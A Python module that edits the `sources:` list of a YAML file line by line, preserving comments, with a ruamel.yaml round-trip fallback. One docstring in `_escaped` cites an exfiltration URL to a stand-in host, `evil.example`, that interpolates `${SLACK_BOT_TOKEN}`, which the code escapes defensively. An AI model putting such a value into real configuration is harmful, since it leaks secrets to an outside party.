"""Changes to the text of a sources file that leave every other line as it is.

A YAML library's round trip moves comments about (ruamel.yaml attaches a comment to the entry *above* it, so that removing an
entry takes the next one's comment with it). So entries are found by PyYAML's marks and lines are changed by hand; only
layouts that this does not understand (lists in brackets, values over several lines) take ruamel's round trip.
Everything here is pure: text in, text out.
"""

from __future__ import annotations

import io
from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import yaml
from ruamel.yaml import YAML

_LOADER: Any = getattr(yaml, "CSafeLoader", yaml.SafeLoader)
Values = Mapping[str, Any]


class _Layout(Exception):
    """The lines are laid out in a way that only a round trip can change."""


@dataclass(frozen=True, slots=True)
class Place:
    """Where an entry stands: lines counted from 0, ``end`` is the line after its last."""

    start: int
    end: int
    column: int
    """Of its keys."""
    node: Any


def ids(text: str) -> list[str]:
    """The ids of a file's entries in their order; an empty string for an entry without one."""
    return [_value(entry, "id") for entry in _sequence(text).value]


def lines_of(entry: Values, *, column: int = 4) -> str:
    """An entry as lines to paste below `sources:`; its keys begin at ``column``."""
    return "".join(_entry_lines(entry, column - 2, column, "\n"))


def add(text: str, entry: Values) -> str:
    """Add an entry as the last one."""
    try:
        return _append(text, entry)
    except _Layout:
        return _round_trip(text, lambda entries: entries.append({key: _escaped(value) for key, value in entry.items()}))


def remove(text: str, index: int) -> str:
    """Remove an entry with the comment directly above it."""
    try:
        return _cut(text, index)
    except _Layout:
        return _round_trip(text, lambda entries: entries.pop(index))


def change(text: str, index: int, values: Values) -> str:
    """Set keys of an entry; None removes a key."""
    changed = text
    try:
        for key, value in values.items():
            changed = _set(changed, index, key, value)
    except _Layout:
        return _round_trip(text, lambda entries: _change_values(entries[index], values))
    return changed


def _append(text: str, entry: Values) -> str:
    sequence, lines, end_of_line = _sequence(text), text.splitlines(keepends=True), _end_of_line(text)
    if not sequence.value:
        return _fill_empty(sequence, lines, entry, end_of_line)
    places = _places(text)
    last, column = places[-1], int(sequence.start_mark.column)
    new = _entry_lines(entry, column, last.column, end_of_line)
    spaced = any(not line.strip() for line in lines[places[0].start : last.start])
    if not lines[last.end - 1].endswith(("\n", "\r")):
        lines[last.end - 1] += end_of_line
    lines[last.end : last.end] = [*([end_of_line] if spaced else []), *new]
    return "".join(lines)


def _fill_empty(sequence: Any, lines: list[str], entry: Values, end_of_line: str) -> str:
    """`sources: []` becomes a list of lines."""
    start, end = sequence.start_mark, sequence.end_mark
    if start.line != end.line or not sequence.flow_style:
        raise _Layout
    line = lines[start.line]
    kept = line[: start.column].rstrip() + line[end.column :].rstrip() + end_of_line
    lines[start.line : start.line + 1] = [kept, *_entry_lines(entry, 2, 4, end_of_line)]
    return "".join(lines)


def _cut(text: str, index: int) -> str:
    lines, places = text.splitlines(keepends=True), _places(text)
    place = places[index]
    start, end = place.start, place.end
    while start > 0 and lines[start - 1].lstrip().startswith("#"):
        start -= 1
    if len(places) == 1:
        key = _key(text).end_mark
        line = lines[key.line]
        if place.start <= key.line or line[key.column : key.column + 1] != ":":
            raise _Layout
        # From below, so that the line numbers above stay right. A comment above the last entry stays: it may say why.
        del lines[place.start : end]
        lines[key.line] = f"{line[: key.column + 1]} []{line[key.column + 1 :]}"
        return "".join(lines)
    if end < len(lines) and not lines[end].strip():
        end += 1
    elif start > 0 and not lines[start - 1].strip():
        start -= 1
    return "".join([*lines[:start], *lines[end:]])


def _set(text: str, index: int, key: str, value: Any) -> str:
    lines, place, end_of_line = text.splitlines(keepends=True), _places(text)[index], _end_of_line(text)
    pair = next((pair for pair in place.node.value if pair[0].value == key), None)
    if pair is None:
        if value is None:
            return text
        new = _mapping_lines({key: value}, place.column, end_of_line)
        if not lines[place.end - 1].endswith(("\n", "\r")):
            lines[place.end - 1] += end_of_line
        return "".join([*lines[: place.end], *new, *lines[place.end :]])
    written, start, end = pair[1], pair[1].start_mark, pair[1].end_mark
    one_line = isinstance(written, yaml.ScalarNode) and pair[0].start_mark.line == start.line == end.line
    if not one_line or isinstance(value, dict | list) or written.style in ("|", ">"):
        raise _Layout
    line = lines[start.line]
    if value is None:
        if start.line == place.start:
            raise _Layout
        del lines[start.line]
        return "".join(lines)
    gap = "" if line[: start.column].endswith(" ") else " "
    scalar = _mapping_lines({key: value}, 0, "")[0].partition(": ")[2]
    lines[start.line] = f"{line[: start.column]}{gap}{scalar}{line[end.column :]}"
    return "".join(lines)


# --- finding ---------------------------------------------------------------------------------------------------------------


def _key(text: str) -> Any:
    return _pair(text)[0]


def _sequence(text: str) -> Any:
    return _pair(text)[1]


def _pair(text: str) -> tuple[Any, Any]:
    """Key and list node of `sources:`. The text has been read before, so that it is known to have both."""
    root: Any = yaml.compose(text, Loader=_LOADER)
    for key, value in root.value:
        if key.value == "sources" and isinstance(value, yaml.SequenceNode):
            return key, value
    raise ValueError("no sources: in this file")


def _places(text: str) -> list[Place]:
    """Where each entry stands. Comments and blank lines below an entry are not its own, but for comments as deep as its keys."""
    sequence, lines = _sequence(text), text.splitlines(keepends=True)
    if sequence.flow_style:
        raise _Layout
    starts = [_dash_line(lines, entry) for entry in sequence.value]
    ends = [*starts[1:], min(int(sequence.end_mark.line) + (1 if sequence.end_mark.column else 0), len(lines))]
    places: list[Place] = []
    for entry, start, limit in zip(sequence.value, starts, ends, strict=True):
        if entry.flow_style or start in starts[: len(places)]:
            raise _Layout
        end = limit
        column = int(entry.start_mark.column)
        while end > start + 1 and (not lines[end - 1].strip() or _comment_column(lines[end - 1]) is not None):
            end -= 1
        while end < limit and _comment_column(lines[end]) == column:
            end += 1
        places.append(Place(start, end, column, entry))
    return places


def _comment_column(line: str) -> int | None:
    """Where the comment of a line stands that holds nothing else; None of any other line."""
    bare = line.lstrip(" ")
    return len(line) - len(bare) if bare.startswith("#") else None


def _dash_line(lines: list[str], entry: Any) -> int:
    line = int(entry.start_mark.line)
    while line > 0 and not lines[line].lstrip().startswith("-"):
        line -= 1
    return line


def _value(entry: Any, key: str) -> str:
    pairs = entry.value if isinstance(entry, yaml.MappingNode) else ()
    return next((str(value.value) for name, value in pairs if name.value == key), "")


def _end_of_line(text: str) -> str:
    return "\r\n" if "\r\n" in text else "\n"


# --- writing ---------------------------------------------------------------------------------------------------------------


def _entry_lines(entry: Values, dash: int, column: int, end_of_line: str) -> list[str]:
    lines = _mapping_lines(entry, column, end_of_line)
    return [f"{' ' * dash}-{' ' * (column - dash - 1)}{lines[0].lstrip(' ')}", *lines[1:]]


def _mapping_lines(values: Values, column: int, end_of_line: str) -> list[str]:
    """Lines of a mapping at an indentation. `${` in a value is written so that it means these two characters."""
    stream = io.StringIO()
    _yaml().dump({key: _escaped(value) for key, value in values.items()}, stream)
    return [f"{' ' * column}{line}{end_of_line}" for line in stream.getvalue().splitlines()]


def _escaped(value: Any) -> Any:
    """Without this, an imported address could ask for a secret: `https://evil.example/?t=${SLACK_BOT_TOKEN}`."""
    if isinstance(value, dict):
        return {key: _escaped(item) for key, item in value.items()}
    return value.replace("${", "$${") if isinstance(value, str) else value


def _yaml() -> YAML:
    writer = YAML()
    writer.preserve_quotes = True
    writer.width = 100_000
    writer.indent(mapping=2, sequence=4, offset=2)
    return writer


def _round_trip(text: str, act: Any) -> str:
    writer = _yaml()
    data = writer.load(text)
    act(data["sources"])
    stream = io.StringIO()
    writer.dump(data, stream)
    return stream.getvalue().replace("\n", _end_of_line(text)) if "\r\n" in text else stream.getvalue()


def _change_values(entry: Any, values: Values) -> None:
    for key, value in values.items():
        if value is None:
            entry.pop(key, None)
        else:
            entry[key] = _escaped(value)
